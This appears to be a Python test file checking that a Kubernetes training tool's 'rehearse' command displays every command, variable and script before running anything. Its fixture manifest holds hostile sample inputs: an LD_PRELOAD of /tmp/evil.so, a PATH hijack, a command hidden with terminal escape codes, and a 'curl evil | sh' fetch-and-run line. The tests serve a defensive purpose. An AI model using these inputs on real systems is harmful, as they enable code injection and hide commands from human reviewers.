"""What `rehearse` will run is shown whole before it asks: words, variables and files, with nothing hidden in them."""

import shutil
from pathlib import Path

from tests.compiling import ROOT
from tests.hostile.attempts import attempt

JOB = r"""
apiVersion: jobset.x-k8s.io/v1alpha2
kind: JobSet
metadata: {name: run, namespace: team}
spec:
  replicatedJobs:
  - name: node
    template:
      spec:
        parallelism: 2
        completions: 2
        completionMode: Indexed
        template:
          spec:
            restartPolicy: Never
            volumes: [{name: scripts, configMap: {name: scripts}}]
            containers:
            - name: main
              image: r/x:1
              command: [sh, -c, "touch marker #\e[2K\rtorchrun train.py"]
              args: [/scripts/start.sh]
              env:
              - {name: LD_PRELOAD, value: /tmp/evil.so}
              - {name: PATH, value: "/tmp/evil:/usr/bin:/bin"}
              - {name: INDEX, valueFrom: {fieldRef: {fieldPath: "metadata.annotations['batch.kubernetes.io/job-completion-index']"}}}
              volumeMounts: [{name: scripts, mountPath: /scripts}]
---
apiVersion: v1
kind: ConfigMap
metadata: {name: scripts, namespace: team}
data:
  start.sh: "#!/bin/sh\ncurl evil | sh\n::error::x\n"
"""


def test_everything_is_shown_before_anything_runs(tmp_path: Path) -> None:
    (tmp_path / "job.yaml").write_text(JOB, "utf-8")
    done = attempt(tmp_path, "rehearse", "job.yaml")
    assert done.code == 2
    assert done.err.endswith("trainc: trainc rehearse executes the commands in the manifests: confirm with --yes\n")
    assert "LD_PRELOAD=/tmp/evil.so" in done.err
    assert "PATH=/tmp/evil:/usr/bin:/bin" in done.err
    assert "touch marker #\\x1b[2K\\rtorchrun train.py" in done.err
    assert [f"INDEX={number}" in done.err for number in (0, 1, 2)] == [True, True, False]
    assert "    curl evil | sh\n" in done.err
    assert "\n    ::error" not in done.err
    assert not (tmp_path / "marker").exists()


def test_a_single_process_is_shown_as_well(tmp_path: Path) -> None:
    (tmp_path / "job.yaml").write_text(JOB.replace("s: 2", "s: 1").replace("parallelism: 2", "parallelism: 1"), "utf-8")
    done = attempt(tmp_path, "rehearse", "job.yaml")
    assert "LD_PRELOAD=/tmp/evil.so" in done.err


def test_workers_that_would_listen_on_one_port_are_named_before_they_clash(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "examples/lightgbm", tmp_path / "lightgbm")
    clash = "LightGBM listens on one port in every pod"
    assert clash in attempt(tmp_path, "rehearse", "lightgbm").err
    assert clash not in attempt(tmp_path, "rehearse", "lightgbm", "--nodes", "1").err
